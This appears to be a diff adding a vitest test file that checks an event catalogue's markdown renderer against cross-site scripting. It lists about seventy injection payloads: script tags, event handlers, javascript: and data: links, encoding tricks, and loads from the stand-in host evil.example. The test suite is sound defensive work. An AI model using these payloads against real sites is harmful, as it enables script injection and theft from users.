@@ -1,0 +1,108 @@
+import { expect, test } from "vitest";
+import { renderMarkdown } from "#worker/catalogue/markdown";
+
+/** Attempts to get something executed, loaded or styled through a description. */
+const attempts = [
+  `<script>alert(1)</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<img src=x onerror=alert(1)>`,
+  `<img/src=x/onerror=alert(1)>`,
+  `<svg onload=alert(1)>`,
+  `<svg><script>alert(1)</script></svg>`,
+  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
+  `<math><mtext></p><img src=x onerror=alert(1)></mtext></math>`,
+  `<iframe src="javascript:alert(1)"></iframe>`,
+  `<iframe srcdoc="<script>alert(1)</script>">`,
+  `<object data="data:text/html,<script>alert(1)</script>">`,
+  `<embed src="data:text/html,x">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import url(//evil.example)</style>`,
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<base href="//evil.example/">`,
+  `<form action="//evil.example"><input name=q><button>Go</button></form>`,
+  `<body onload=alert(1)>`,
+  `<details open ontoggle=alert(1)>`,
+  `<video><source onerror=alert(1)></video>`,
+  `<audio src=x onerror=alert(1)>`,
+  `<marquee onstart=alert(1)>x</marquee>`,
+  `<template><script>alert(1)</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+  `<!--><img src=x onerror=alert(1)>-->`,
+  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
+  `<?php echo '<img src=x onerror=alert(1)>' ?>`,
+  `<a href="javascript:alert(1)">x</a>`,
+  `<p style="background:url(//evil.example)">x</p>`,
+  `<div id="main" class="fixed inset-0">x</div>`,
+  `<x onclick=alert(1)>x</x>`,
+  `[x](javascript:alert(1))`,
+  `[x](JaVaScRiPt:alert(1))`,
+  `[x](javascript&#58;alert(1))`,
+  `[x](&#106;avascript:alert(1))`,
+  `[x](javascript&colon;alert(1))`,
+  `[x](java\tscript:alert(1))`,
+  `[x](<java\nscript:alert(1)>)`,
+  `[x]( javascript:alert(1))`,
+  `[x](\u0001javascript:alert(1))`,
+  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `[x](vbscript:msgbox(1))`,
+  `[x](file:///etc/passwd)`,
+  `[x](blob:https://evil.example/1)`,
+  `[x](view-source:https://evil.example)`,
+  `[x](http://a.example" onmouseover="alert(1))`,
+  `[x](http://a.example 'x" onmouseover="alert(1)')`,
+  `[x](http://a.example "x' onmouseover='alert(1)")`,
+  `[x][1]\n\n[1]: javascript:alert(1)`,
+  `[x][1]\n\n[1]: http://a.example "\\" onmouseover=\\"alert(1)"`,
+  `<javascript:alert(1)>`,
+  `<https://a.example/"onmouseover="alert(1)>`,
+  `![x](https://evil.example/pixel.png)`,
+  `![x](javascript:alert(1))`,
+  `![x" onerror="alert(1)](y)`,
+  `![x][1]\n\n[1]: https://evil.example/pixel.png`,
+  `[![x](https://evil.example/p.png)](javascript:alert(1))`,
+  "```html\n<script>alert(1)</script>\n```",
+  "`<script>alert(1)</script>`",
+  "```\" onload=\"alert(1)\nx\n```",
+  `    <script>alert(1)</script>`,
+  `# <img src=x onerror=alert(1)>`,
+  `- <script>alert(1)</script>`,
+  `> <iframe src=//evil.example>`,
+  `**<b onclick=alert(1)>x</b>**`,
+  `&lt;script&gt;alert(1)&lt;/script&gt;`,
+  `\\<script>alert(1)\\</script>`,
+];
+
+const allowed = new Map<string, readonly string[]>(
+  "p h3 h4 strong em ul ol li blockquote hr br code pre".split(" ").map((name) => [name, []]),
+);
+allowed.set("a", ["href", "rel", "title"]);
+allowed.set("ol", ["start"]);
+
+test.each(attempts)("a description cannot do harm with %s", (attempt) => {
+  for (const text of [attempt, `Before ${attempt} after`, `A line\n\n${attempt}\n\nA line`]) {
+    const holder = document.createElement("div");
+    holder.innerHTML = renderMarkdown(text);
+    for (const element of holder.querySelectorAll("*")) {
+      const name = element.tagName.toLowerCase();
+      expect([...allowed.keys()], `${text}: <${name}>`).toContain(name);
+      for (const attribute of element.getAttributeNames())
+        expect(allowed.get(name), `${text}: ${name} ${attribute}`).toContain(attribute);
+      const href = element.getAttribute("href");
+      if (href) {
+        expect(new URL(href, "https://stagedoor.test").protocol, text).toMatch(/^(https?|mailto):$/);
+        expect(element.getAttribute("rel")).toContain("nofollow");
+      }
+    }
+  }
+});
+
+test("there are at least sixty attempts", () => {
+  expect(attempts.length).toBeGreaterThanOrEqual(60);
+});
+
+test("what an organizer means comes through", () => {
+  const html = renderMarkdown("# Tonight\n\nBy *Karnad*, **in Hindi**.\n\n- one\n- [two](https://a.example)");
+  expect(html).toContain("<h3>Tonight</h3>");
+  expect(html).toContain("<em>Karnad</em>");
+  expect(html).toMatch(/<a [^>]*href="https:\/\/a\.example"/);
+});
